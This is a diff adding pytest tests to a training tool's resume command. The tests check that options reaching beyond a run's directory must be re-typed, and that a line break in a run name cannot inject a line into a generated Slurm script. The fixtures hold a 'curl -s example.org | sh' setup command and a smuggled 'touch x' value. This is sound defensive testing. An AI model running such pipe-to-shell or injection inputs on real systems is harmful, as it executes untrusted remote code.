@@ -8,12 +8,13 @@ from argparse import Namespace
 from pathlib import Path
 
 import pytest
-from going_on_helpers import take
+from going_on_helpers import content, take
 
 from forge import cancel, checkpoints, export, generate, report, resume, status, train, worker
 from forge.config.errors import ConfigError
 from forge.config.stored import DEEPEST, from_json
 from forge.launch import local
+from forge.launch.directory import resume_command
 from forge.launch.sweep_directory import SweepDirectory
 
 RUN = ("run.dir=run", "model.dim=64", "model.n_heads=4", "train.max_steps=40", "scheduler.warmup_steps=4")
@@ -139,3 +140,73 @@ def test_a_report_is_not_written_through_a_link(tmp_path: Path) -> None:
     links_of(tmp_path / "sweep", tmp_path)
     with pytest.raises(ConfigError, match="these links lead out of it"):
         report._files(Namespace(**dict.fromkeys(report.NAMES)), tmp_path / "sweep")
+
+
+SETUP = "launch.setup=['curl -s example.org | sh']"
+SRUN = 'launch.srun_args=["--task-prolog=x"]'
+CONF = """\
+# @package _global_
+defaults: [{override /launch: slurm}]
+sweep:
+  ablation:
+    arms: &arms {setup: [curl -s example.org | sh]}
+    baseline: setup
+launch: {<<: *arms}
+"""
+DRY = ["launch.dry_run=true", "run.device=cpu"]
+BEYOND = {
+    "a command of the job": ("launch.setup", [*DRY, "launch=slurm", SETUP], [SETUP]),
+    "an argument of srun": ("launch.srun_args", [*DRY, "launch=slurm", SRUN], [SRUN]),
+    "an option of sbatch, as Hydra spells it": (
+        "launch.sbatch",
+        [*DRY, "hydra/launcher=submitit_slurm", "hydra.launcher.comment=x", "++launch.sbatch.chdir=/tmp"],
+        ["hydra.launcher.comment=x", "++launch.sbatch.chdir=/tmp"],
+    ),
+    "a command of the job in a file": ("launch.setup", [*DRY, "hydra.searchpath=[{conf}]", "experiment=e"], ["hydra.searchpath=[{conf}]"]),
+    "a folder of checkpoints elsewhere": ("checkpoint.dir", ["checkpoint.dir=/scratch/theirs"], ["checkpoint.dir=/scratch/theirs"]),
+    "event files elsewhere": ("metrics.tensorboard_dir", ["metrics.tensorboard_dir=../x"], ["metrics.tensorboard_dir=../x"]),
+}
+
+
+@pytest.mark.parametrize(("option", "own", "asked"), BEYOND.values(), ids=BEYOND)
+def test_what_reaches_beyond_the_run_is_asked_for(
+    option: str, own: list[str], asked: list[str], started: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The command to type is given, and works; it is also the one that a run prints."""
+    conf = tmp_path / "conf" / "experiment"
+    conf.mkdir(parents=True)
+    (conf / "e.yaml").write_text(CONF)
+    own, asked = ([text.format(conf=conf.parent) for text in words] for words in (own, asked))
+    run = take(*RUN, *own)[0]
+    before = content(run)
+    assert resume.main(["run", "metrics.log_interval=7"]) == 2
+    said = capsys.readouterr().err.splitlines()
+    assert said[1:3] == [
+        f"  1. {' '.join(asked)}   [command line]",
+        f"     the run has {option}, which reaches beyond its directory and is only used by who asks for it.",
+    ]
+    assert (content(run), started) == (before, [])
+    command = shlex.split(said[3].removeprefix("     -> if you trust it: "))
+    assert command == ["python", "-m", "forge.resume", "run", "metrics.log_interval=7", *asked]
+    assert resume.main(command[3:]) == 0
+    printed = capsys.readouterr().out
+    if option.startswith("launch."):
+        assert printed.startswith("#!/bin/bash")
+    else:
+        assert started == [run]
+    assert shlex.split(resume_command(run)) == ["python", "-m", "forge.resume", "run", *asked]
+
+
+def test_what_was_typed_in_its_place_counts(run: Path, started: list[Path]) -> None:
+    take(*RUN, "launch=slurm", SETUP)
+    assert resume.main(["run", "launch.setup=[]", *DRY]) == resume.main(["run", "launch=local"]) == 0
+
+
+def test_a_line_break_begins_no_line_of_a_script(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """In the name of a run, which a directory may bring; no run directory has one."""
+    assert resume.main(["run", "launch=slurm", *DRY, "run.name='a\ntouch x'"]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert "#SBATCH --job-name='a touch x'" in lines
+    assert not any(line.startswith("touch") for line in lines)
+    assert train.main(["run.dir='a\nb'"]) == 2
+    assert "cannot be made or written: a name in it has a line break." in capsys.readouterr().err
